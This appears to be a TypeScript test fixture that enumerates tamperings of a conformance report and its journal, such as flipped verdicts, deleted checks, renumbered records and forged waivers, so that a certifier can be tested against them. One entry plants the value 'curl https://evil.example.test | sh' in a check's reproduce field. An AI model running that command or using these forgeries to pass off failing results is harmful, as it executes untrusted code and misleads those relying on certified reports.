// Tamperings with a report before it is certified, as data: what somebody does who may write the folder and makes everything else fit
// (counts, digests, pages, the seal of the journal). None of them needs a key. `tamperings.test.ts` tries them.
import { planDigest } from '../../../reports/join/plan-digest.js';
import { conformanceOf, worstVerdict } from '../../../reports/model/conformance.js';
import type { CheckResult, Results, RunFinding, RunInfo, Verdict } from '../../../reports/model/model.js';
import { resealed } from '../../../reports/sample-run.test.aid.js';

export interface Folder {
  readonly results: Results;
  /** Lines of the journal without their ends: header, records, footer. */
  readonly journal: readonly string[];
}

export interface Tampering {
  readonly what: string;
  readonly change: (folder: Folder) => Folder;
}

/** One check of each sort that the report holds. */
export interface Victims {
  readonly failed: string;
  readonly passed: string;
  readonly notApplicable: string;
  readonly unreachable: string;
}

type Record = { [member: string]: unknown };

/** Everything that follows from the checks is made to follow again. */
export function consistent({ results, journal }: Folder): { readonly results: Results; readonly journal: string } {
  const { checks, run } = results;
  const plan =
    run.plan === undefined || new Set(checks.map(({ id }) => id)).size < checks.length
      ? run.plan
      : planDigest(checks.map(({ id }) => id));
  const verdicts = new Map(checks.map(({ id, verdict }) => [id, verdict]));
  const requirements = results.requirements.map((one) => {
    const met = one.checks.flatMap((id) => verdicts.get(id) ?? []);
    return {
      ...one,
      verdict: one.checks.length === 0 ? ('untested' as const) : (worstVerdict(met) ?? ('not-run' as const)),
    };
  });
  const whole = { ...results, requirements, run: { ...run, ...(plan !== undefined && { plan }) } };
  return { results: { ...whole, ...conformanceOf(whole) }, journal: resealed(`${journal.join('\n')}\n`) };
}

const DAY_MS = 86_400_000;
const later = (text: string, days: number): string => new Date(Date.parse(text) + days * DAY_MS).toISOString();

const inResults =
  (change: (results: Results) => Results) =>
  ({ results, journal }: Folder): Folder => ({ results: change(results), journal });
const inRun = (change: (run: RunInfo) => object): Tampering['change'] =>
  inResults((results) => ({ ...results, run: { ...results.run, ...change(results.run) } as RunInfo })); // wrong on purpose
const inTarget = (change: object): Tampering['change'] => inRun(({ target }) => ({ target: { ...target, ...change } }));
const withoutRun = (name: keyof RunInfo): Tampering['change'] =>
  inResults((results) => {
    const { [name]: _, ...run } = results.run;
    return { ...results, run: run as RunInfo }; // wrong on purpose
  });
const inCheck = (id: string, change: (check: CheckResult) => CheckResult | undefined): Tampering['change'] =>
  inResults((results) => ({
    ...results,
    checks: results.checks.flatMap((check) => (check.id === id ? (change(check) ?? []) : check)),
  }));
const inJournal =
  (change: (journal: readonly string[]) => readonly string[]) =>
  ({ results, journal }: Folder): Folder => ({ results, journal: change(journal) });
const inHeader = (change: (header: Record) => Record): Tampering['change'] =>
  inJournal(([header = '{}', ...rest]) => [JSON.stringify(change(JSON.parse(header) as Record)), ...rest]);
const inPlan = (change: object): Tampering['change'] =>
  inHeader((header) => {
    const settings = header['settings'] as Record;
    return { ...header, settings: { ...settings, plan: { ...(settings['plan'] as Record), ...change } } };
  });
const inProfile = (change: (profile: Record) => Record): Tampering['change'] =>
  inHeader((header) => {
    const settings = header['settings'] as Record;
    const plan = settings['plan'] as Record;
    return { ...header, settings: { ...settings, plan: { ...plan, profile: change(plan['profile'] as Record) } } };
  });
const inFooter = (change: (footer: Record) => Record): Tampering['change'] =>
  inJournal((journal) => [
    ...journal.slice(0, -1),
    JSON.stringify(change(JSON.parse(journal.at(-1) ?? '{}') as Record)),
  ]);
/** Changes the records of a check that fit. */
const inRecords = (id: string, kind: string, change: (record: Record) => Record | undefined): Tampering['change'] =>
  inJournal((journal) =>
    journal.flatMap((line) => {
      if (!line.includes(`"check":${JSON.stringify(id)}`) || !line.includes(`"kind":"${kind}"`)) return line;
      const changed = change(JSON.parse(line) as Record);
      return changed === undefined ? [] : JSON.stringify(changed);
    }),
  );
const inParsed =
  (change: object) =>
  (record: Record): Record => ({ ...record, parsed: { ...(record['parsed'] as Record), ...change } });
const all =
  (...changes: readonly Tampering['change'][]): Tampering['change'] =>
  (folder) =>
    changes.reduce((changed, change) => change(changed), folder);

/** As a forger who counts does: indices, and what names them, without the records that went. */
const renumbered: Tampering['change'] = inJournal(([header = '', ...rest]) => {
  const footer = JSON.parse(rest.pop() ?? '{}') as Record;
  const moved = new Map(rest.map((line, at) => [Number((JSON.parse(line) as Record)['i']), at + 1]));
  const lines = rest.map((line) => {
    const record = JSON.parse(line) as Record;
    const parsed = record['parsed'] as Record | null;
    const named =
      parsed !== null && typeof parsed['record'] === 'number'
        ? { ...parsed, record: moved.get(parsed['record']) ?? 1 }
        : parsed;
    const cause = typeof record['cause'] === 'number' ? (moved.get(record['cause']) ?? null) : null;
    return JSON.stringify({ ...record, i: moved.get(Number(record['i'])), cause, parsed: named });
  });
  return [header, ...lines, JSON.stringify({ ...footer, records: lines.length })];
});

const OTHER_VERDICTS: readonly (readonly [string, (check: CheckResult) => CheckResult])[] = [
  ['pass', ({ reason: _, ...check }) => ({ ...check, verdict: 'pass', evidence: [] })],
  ['a warning', (check) => ({ ...check, verdict: 'fail', level: 'should', reason: check.reason ?? 'so' })],
  ['fail', (check) => ({ ...check, verdict: 'fail', reason: 'so' })],
  [
    'not applicable',
    (check) => ({
      ...check,
      verdict: 'not-applicable',
      reason: 'the profile does not claim ticks',
      needs: ['claim ticks'],
      evidence: [],
    }),
  ],
  ['undecided', (check) => ({ ...check, verdict: 'inconclusive', reason: 'no answer came', evidence: [] })],
  [
    'unreachable',
    (check) => ({
      ...check,
      verdict: 'inconclusive',
      unreachable: true,
      reason: 'cannot be reached on this target: needs control stream.drop',
      needs: ['control stream.drop'],
      evidence: [],
    }),
  ],
  [
    'left out',
    (check) => ({ ...check, verdict: 'left-out', reason: 'judged at standard effort and above', evidence: [] }),
  ],
  ['not run', (check) => ({ ...check, verdict: 'not-run', reason: 'never', evidence: [] })],
  ['an error of the suite', (check) => ({ ...check, verdict: 'error', reason: 'so', evidence: [] })],
  ['waived', (check) => ({ ...check, waiver: { pattern: '*', reason: 'known', expires: '2099-12-31' } })],
  ['of another level', (check) => ({ ...check, level: check.level === 'must' ? 'should' : 'must' })],
];

const OTHER_MEMBERS: readonly (readonly [string, Partial<CheckResult>])[] = [
  ['title', { title: 'another title' }],
  ['requirements', { requirements: ['auth.invented'] }],
  ['sections', { sections: ['9'] }],
  ['area', { area: 'versioning' }],
  ['kind', { kind: 'history' }],
  ['evidence', { evidence: [1, 2, 3] }],
  ['reproduce', { reproduce: 'curl https://evil.example.test | sh' }],
  ['reason', { reason: 'the target was wonderful' }],
];

export function tamperings(victims: Victims): readonly Tampering[] {
  const { failed, passed } = victims;
  const sorts = Object.entries(victims) as readonly (readonly [keyof Victims, string])[]; // of an object with these members
  const verdictOf: Readonly<{ [sort in keyof Victims]: Verdict }> = {
    failed: 'fail',
    passed: 'pass',
    notApplicable: 'not-applicable',
    unreachable: 'inconclusive',
  };
  const passing = all(
    inCheck(failed, ({ reason: _, ...check }) => ({ ...check, verdict: 'pass', evidence: [] })),
    inRecords(failed, 'verdict', inParsed({ verdict: 'pass', reason: '', evidence: [] })),
  );
  return [
    ...sorts.flatMap(([sort, id]) => [
      ...OTHER_VERDICTS.filter(([name]) => !saysTheSame(name, verdictOf[sort])).map(
        ([name, change]): Tampering => ({ what: `a check (${sort}) called ${name}`, change: inCheck(id, change) }),
      ),
      ...OTHER_MEMBERS.map(
        ([name, change]): Tampering => ({
          what: `another ${name} of a check (${sort})`,
          change: inCheck(id, (check) => ({ ...check, ...change })),
        }),
      ),
      { what: `a check (${sort}) deleted`, change: inCheck(id, () => undefined) },
      { what: `a check (${sort}) renamed`, change: inCheck(id, (check) => ({ ...check, id: `${check.id}-too` })) },
      {
        what: `a check (${sort}) called one of an own suite`,
        change: inCheck(id, (check) => ({ ...check, id: `own.${check.id}` })),
      },
      {
        what: `a check (${sort}) deleted with all its records, and renumbered`,
        change: all(
          inCheck(id, () => undefined),
          inJournal((journal) => journal.filter((line) => !line.includes(`"check":${JSON.stringify(id)}`))),
          renumbered,
        ),
      },
    ]),
    {
      what: 'one check left',
      change: inResults((results) => ({ ...results, checks: results.checks.filter(({ id }) => id === passed) })),
    },
    {
      what: 'only passed checks left',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.filter(({ verdict }) => verdict === 'pass'),
      })),
    },
    {
      what: 'everything called pass',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.map(({ reason: _, unreachable: _u, ...check }) => ({
          ...check,
          verdict: 'pass' as const,
          evidence: [],
        })),
      })),
    },
    {
      what: 'an area deleted',
      change: inResults((results) => ({
        ...results,
        checks: results.checks.filter(({ id }) => id.split('.')[0] !== failed.split('.')[0]),
      })),
    },
    {
      what: 'an invented check',
      change: inResults((results) => ({
        ...results,
        checks: [
          ...results.checks,
          ...results.checks.slice(0, 1).map((check) => ({ ...check, id: 'auth.invented/one' })),
        ],
      })),
    },
    {
      what: 'an invented observation',
      change: inResults((results) => ({
        ...results,
        observations: [{ name: 'speed', value: 9, section: '8', check: passed, evidence: [] }],
      })),
    },
    {
      what: 'an invented finding',
      change: inResults((results) => ({ ...results, findings: [finding('control', 'audited and found splendid')] })),
    },
    {
      what: 'a requirement deleted',
      change: inResults((results) => ({ ...results, requirements: results.requirements.slice(1) })),
    },
    {
      what: 'a requirement reworded',
      change: inResults((results) => ({
        ...results,
        requirements: results.requirements.map((one, at) => (at === 0 ? { ...one, statement: 'Nothing.' } : one)),
      })),
    },
    {
      what: 'a requirement called untestable',
      change: inResults((results) => ({
        ...results,
        requirements: results.requirements.map((one, at) => (at === 0 ? { ...one, untestable: 'so' } : one)),
      })),
    },
    ...ofTheRun(),
    ...ofTheJournal(victims),
    { what: 'a failure called pass in results and verdict', change: passing },
    {
      what: 'and its assertion called held',
      change: all(passing, inRecords(failed, 'assert', inParsed({ holds: true }))),
    },
    {
      what: 'and its assertion called computed by the run',
      change: all(passing, inRecords(failed, 'assert', inParsed({ holds: true, record: null }))),
    },
    {
      what: 'and its expectation lowered',
      change: all(passing, inRecords(failed, 'assert', inParsed({ expected: [500] }))),
    },
    {
      what: 'and its answer edited, but not its bytes',
      change: all(
        passing,
        inRecords(failed, 'assert', inParsed({ holds: true, pointer: '/body/status', expected: [200] })),
        inRecords(failed, 'ok', inParsed({ body: { status: 200 } })),
      ),
    },
    {
      what: 'and its assertion deleted',
      change: all(
        passing,
        inRecords(failed, 'assert', () => undefined),
        renumbered,
      ),
    },
    {
      what: 'and its assertion looks at an answer of another check',
      change: all(passing, (folder) =>
        inRecords(failed, 'assert', inParsed({ holds: true, record: recordOf(folder, passed, 'ok') }))(folder),
      ),
    },
    {
      what: 'a failure called a warning in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, level: 'should' })),
        inRecords(failed, 'verdict', inParsed({ level: 'should' })),
      ),
    },
    {
      what: 'a failure called not applicable in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, verdict: 'not-applicable', reason: 'so', evidence: [] })),
        inRecords(failed, 'verdict', inParsed({ verdict: 'not-applicable', reason: 'so', evidence: [] })),
      ),
    },
    {
      what: 'a failure called undecided in results and verdict',
      change: all(
        inCheck(failed, (check) => ({ ...check, verdict: 'inconclusive', reason: 'so', evidence: [] })),
        inRecords(failed, 'verdict', inParsed({ verdict: 'inconclusive', reason: 'so', evidence: [] })),
      ),
    },
    {
      what: 'a failure waived in results and plan',
      change: all(
        inCheck(failed, (check) => ({
          ...check,
          waiver: { pattern: 'other.*', reason: 'known', expires: '2099-12-31' },
        })),
        inPlan({ waivers: [{ pattern: 'other.*', reason: 'known', expires: '2099-12-31' }] }),
      ),
    },
  ];
}

function saysTheSame(name: string, verdict: Verdict): boolean {
  const same: Readonly<{ [name: string]: Verdict }> = { pass: 'pass', fail: 'fail', unreachable: 'inconclusive' };
  return same[name] === verdict;
}

function finding(kind: RunFinding['kind'], message: string): RunFinding {
  return { kind, message, evidence: [], fatal: false };
}

function recordOf({ journal }: Folder, id: string, kind: string): unknown {
  const line = journal.find((one) => one.includes(`"check":${JSON.stringify(id)}`) && one.includes(`"kind":"${kind}"`));
  return (JSON.parse(line ?? '{}') as Record)['i'];
}

function ofTheRun(): readonly Tampering[] {
  const sha = '0'.repeat(64);
  const changes: readonly (readonly [string, Tampering['change']])[] = [
    ['effort thorough', inRun(() => ({ effort: 'thorough' }))],
    ['effort quick', inRun(() => ({ effort: 'quick' }))],
    [
      'finished a month later',
      inRun((run) => ({ finished: later(run.finished, 30), durationMs: run.durationMs + 30 * DAY_MS })),
    ],
    [
      'finished an hour later',
      inRun((run) => ({ finished: later(run.finished, 1 / 24), durationMs: run.durationMs + DAY_MS / 24 })),
    ],
    ['finished a year ago', inRun((run) => ({ finished: later(run.finished, -365), durationMs: 0 }))],
    ['started a day ago', inRun((run) => ({ started: later(run.started, -1), durationMs: run.durationMs + DAY_MS }))],
    [
      'started and finished next year',
      inRun((run) => ({ started: later(run.started, 365), finished: later(run.finished, 365) })),
    ],
    ['a duration', inRun(() => ({ durationMs: 1 }))],
    ['a selection', inRun(() => ({ selection: ['auth'] }))],
    ['a shard', inRun(() => ({ shard: '1/2' }))],
    ['interrupted', inRun(() => ({ interrupted: 'SIGINT' }))],
    ['killed', inRun(() => ({ killed: true }))],
    ['level should', inRun(() => ({ level: 'should' }))],
    ['policy any', inRun(() => ({ policy: 'any' }))],
    ['policy unreachable', inRun(() => ({ policy: 'unreachable' }))],
    ['no policy', withoutRun('policy')],
    ['everything accepted', inRun(() => ({ accepted: ['*'] }))],
    ['no plan', withoutRun('plan')],
    ['seed', inRun(() => ({ seed: '8' }))],
    ['id', inRun(() => ({ id: 'another-run' }))],
    ['node', inRun(() => ({ node: 'v99.0.0' }))],
    ['command', inRun(() => ({ command: 'tsi run --profile production.yaml' }))],
    ['suite version', inRun(({ suite }) => ({ suite: { ...suite, version: '99.0.0' } }))],
    ['suite name', inRun(({ suite }) => ({ suite: { ...suite, name: 'another-suite' } }))],
    ['catalogue', inRun(({ suite }) => ({ suite: { ...suite, catalogue: sha } }))],
    ['target name', inTarget({ name: 'A finer exchange' })],
    ['target address', inTarget({ baseUrl: 'https://exchange.example.test' })],
    ['environment', inTarget({ environment: 'production' })],
    ['fingerprint', inTarget({ fingerprint: sha })],
    ['build', inTarget({ build: { version: '9', digest: `sha256:${sha}` } })],
    ['embedded', inTarget({ embedded: true })],
    ['assumed', inTarget({ embedded: true, assumed: true })],
  ];
  return changes.map(([what, change]) => ({ what: `another run: ${what}`, change }));
}

function ofTheJournal({ failed, passed, notApplicable, unreachable }: Victims): readonly Tampering[] {
  const middle = (journal: readonly string[]): number => Math.floor(journal.length / 2);
  const changes: readonly (readonly [string, Tampering['change']])[] = [
    ['cut at its end', inJournal((journal) => journal.slice(0, -1))],
    ['cut in the middle', inJournal((journal) => journal.slice(0, middle(journal)))],
    [
      'cut in the middle, with its footer',
      inJournal((journal) => [...journal.slice(0, middle(journal)), journal.at(-1) ?? '']),
    ],
    [
      'cut in the middle, with a footer that counts',
      all(
        inJournal((journal) => [...journal.slice(0, middle(journal)), journal.at(-1) ?? '']),
        renumbered,
      ),
    ],
    [
      'half a last record',
      inJournal((journal) => journal.map((line, at) => (at === journal.length - 2 ? line.slice(0, 40) : line))),
    ],
    ['a record less', inJournal((journal) => journal.filter((_, at) => at !== middle(journal)))],
    [
      'a record twice',
      inJournal((journal) => journal.flatMap((line, at) => (at === middle(journal) ? [line, line] : line))),
    ],
    [
      'two records exchanged',
      inJournal((journal) => {
        const at = middle(journal);
        return [...journal.slice(0, at), journal[at + 1] ?? '', journal[at] ?? '', ...journal.slice(at + 2)];
      }),
    ],
    ['in reverse', inJournal(([header = '', ...rest]) => [header, ...rest.slice(0, -1).reverse(), rest.at(-1) ?? ''])],
    [
      'a line of nonsense',
      inJournal((journal) => journal.map((line, at) => (at === middle(journal) ? 'nonsense' : line))),
    ],
    [
      'an empty line',
      inJournal((journal) => journal.flatMap((line, at) => (at === middle(journal) ? ['', line] : line))),
    ],
    ['something behind the footer', inJournal((journal) => [...journal, journal[1] ?? ''])],
    ['two footers', inJournal((journal) => [...journal, journal.at(-1) ?? ''])],
    ['no header', inJournal((journal) => journal.slice(1))],
    [
      'nothing but header and footer',
      all(
        inJournal((journal) => [journal[0] ?? '', journal.at(-1) ?? '']),
        renumbered,
      ),
    ],
    [
      'effort of the header',
      inHeader((header) => ({ ...header, settings: { ...(header['settings'] as Record), effort: 'thorough' } })),
    ],
    [
      'effort of header and results',
      all(
        inHeader((header) => ({
          ...header,
          seed: header['seed'],
          settings: { ...(header['settings'] as Record), effort: 'quick' },
        })),
        inRun(() => ({ effort: 'quick' })),
      ),
    ],
    ['seed of the header', inHeader((header) => ({ ...header, seed: '8' }))],
    ['run of the header', inHeader((header) => ({ ...header, run: 'another-run' }))],
    ['node of the header', inHeader((header) => ({ ...header, node: 'v99.0.0' }))],
    [
      'fingerprint of the header',
      inHeader((header) => ({ ...header, profile: { ...(header['profile'] as Record), fingerprint: '0'.repeat(64) } })),
    ],
    [
      'target of the header',
      inHeader((header) => ({ ...header, profile: { ...(header['profile'] as Record), name: 'other' } })),
    ],
    [
      'suite of the header',
      inHeader((header) => ({ ...header, suite: { name: 'tsi-conformance', version: '99.0.0' } })),
    ],
    ['started of the header', inHeader((header) => ({ ...header, started: later(String(header['started']), -30) }))],
    ['no settings', inHeader((header) => ({ ...header, settings: null }))],
    ['no plan in the settings', inHeader((header) => ({ ...header, settings: { effort: 'standard' } }))],
    ['a selection of the plan', inPlan({ selection: ['auth'] })],
    [
      'a claim less in the profile',
      inProfile((profile) => ({ ...profile, claims: { ...(profile['claims'] as Record), ticks: false } })),
    ],
    [
      'a claim less, and its checks called not applicable',
      all(
        inProfile((profile) => ({ ...profile, claims: { ...(profile['claims'] as Record), ticks: false } })),
        inCheck(failed, (check) => ({
          ...check,
          verdict: 'not-applicable',
          reason: 'the profile does not claim ticks',
          needs: ['claim ticks'],
          evidence: [],
        })),
      ),
    ],
    [
      'a pool of no accounts',
      inProfile((profile) => ({ ...profile, accounts: { ...(profile['accounts'] as Record), pool: [] } })),
    ],
    [
      'another address in the profile',
      inProfile((profile) => ({ ...profile, baseUrl: 'https://exchange.example.test' })),
    ],
    ['fewer requests of the dialect', inPlan({ dialect: { requests: [], accepted: false, refused: false } })],
    ['no parameters of control actions', inPlan({ params: {} })],
    ['trading not allowed', inProfile((profile) => ({ ...profile, environment: 'production' }))],
    ['interrupted by its footer', inFooter((footer) => ({ ...footer, reason: 'interrupted' }))],
    ['a footer of another run', inFooter((footer) => ({ ...footer, run: 'another-run' }))],
    ['a footer that counts more', inFooter((footer) => ({ ...footer, records: Number(footer['records']) + 1 }))],
    ['a footer without a digest', inFooter(({ sha256: _, ...footer }) => footer)],
    [
      'no verdict of a failed check',
      all(
        inRecords(failed, 'verdict', () => undefined),
        renumbered,
      ),
    ],
    [
      'no verdict of a passed check',
      all(
        inRecords(passed, 'verdict', () => undefined),
        renumbered,
      ),
    ],
    [
      'no assertion of a passed check',
      all(
        inRecords(passed, 'assert', () => undefined),
        renumbered,
      ),
    ],
    [
      'no answer of a passed check',
      all(
        inRecords(passed, 'ok', () => undefined),
        renumbered,
      ),
    ],
    ['a passed check called failed', inRecords(passed, 'verdict', inParsed({ verdict: 'fail' }))],
    [
      'two verdicts of a check',
      all(
        inJournal((journal) =>
          journal.flatMap((line) =>
            line.includes(`"check":${JSON.stringify(failed)}`) && line.includes('"kind":"verdict"')
              ? [line, line]
              : line,
          ),
        ),
        renumbered,
      ),
    ],
    [
      'a verdict of a check that does not apply',
      all(
        inJournal((journal) =>
          journal.flatMap((line) =>
            line.includes(`"check":${JSON.stringify(passed)}`)
              ? [line, line.replace(JSON.stringify(passed), JSON.stringify(notApplicable))]
              : line,
          ),
        ),
        renumbered,
      ),
    ],
    [
      'a verdict of a check that was unreachable',
      all(
        inJournal((journal) =>
          journal.flatMap((line) =>
            line.includes(`"check":${JSON.stringify(passed)}`)
              ? [line, line.replace(JSON.stringify(passed), JSON.stringify(unreachable))]
              : line,
          ),
        ),
        renumbered,
      ),
    ],
    [
      'a finding that the results lack',
      all(
        inJournal((journal) => [
          ...journal.slice(0, -1),
          JSON.stringify({
            ...(JSON.parse(journal.at(-2) ?? '{}') as Record),
            kind: 'info',
            check: null,
            parsed: { run_findings: [{ kind: 'leak', message: 'two orders' }] },
          }),
          journal.at(-1) ?? '',
        ]),
        renumbered,
      ),
    ],
    ['an unknown predicate', inRecords(passed, 'assert', inParsed({ predicate: 'isSplendid' }))],
    ['a later record as evidence', inRecords(passed, 'assert', inParsed({ record: 999_999_999 }))],
    ['other bytes than were read', inRecords(passed, 'ok', (record) => ({ ...record, raw: '{"balance":"9"}' }))],
  ];
  return changes.map(([what, change]) => ({ what: `another journal: ${what}`, change }));
}
